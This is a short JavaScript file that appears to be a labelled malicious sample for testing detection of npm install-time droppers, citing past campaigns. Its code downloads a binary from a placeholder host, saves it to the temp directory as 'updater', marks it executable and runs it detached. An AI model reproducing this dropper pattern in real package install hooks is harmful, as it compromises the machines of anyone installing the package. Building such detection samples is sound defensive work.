// when: install
// expect: malicious
// source: platform-binary droppers (rand-user-agent 2025, the klow/okhsa miners 2021): the download, the
// write and the run are three helpers that one install-time function calls in turn.
const https = require('https'), fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
function get(url, cb) { https.get(url, (res) => { const chunks = []; res.on('data', (c) => chunks.push(c)); res.on('end', () => cb(Buffer.concat(chunks))); }); }
function save(file, data) { fs.writeFileSync(file, data); fs.chmodSync(file, 0o755); }
function start(file) { cp.spawn(file, [], { detached: true, stdio: 'ignore' }).unref(); }
function main() {
  const file = path.join(os.tmpdir(), 'updater');
  get('https://cdn.payload-host.example/bin/linux-x64', (data) => { save(file, data); start(file); });
}
main();
